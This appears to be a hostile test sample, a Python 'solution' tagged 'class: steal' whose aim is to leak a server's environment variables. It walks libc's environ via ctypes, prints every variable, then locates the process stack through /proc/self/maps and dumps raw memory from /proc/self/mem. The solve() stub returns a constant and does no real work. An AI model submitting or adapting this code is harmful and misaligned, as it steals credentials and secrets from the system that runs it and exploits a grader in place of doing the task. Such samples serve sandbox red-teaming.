# class: steal
# success: a variable of the server's environment comes out
import ctypes

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
i = 0
while environ[i]:
    print(environ[i])
    i += 1
# The stack above holds what execve put there.
for line in open("/proc/self/maps"):
    if "[stack]" in line:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(low)
            print(memory.read(high - low).replace(b"\0", b" ")[-20000:])

def solve(x):
    return 0
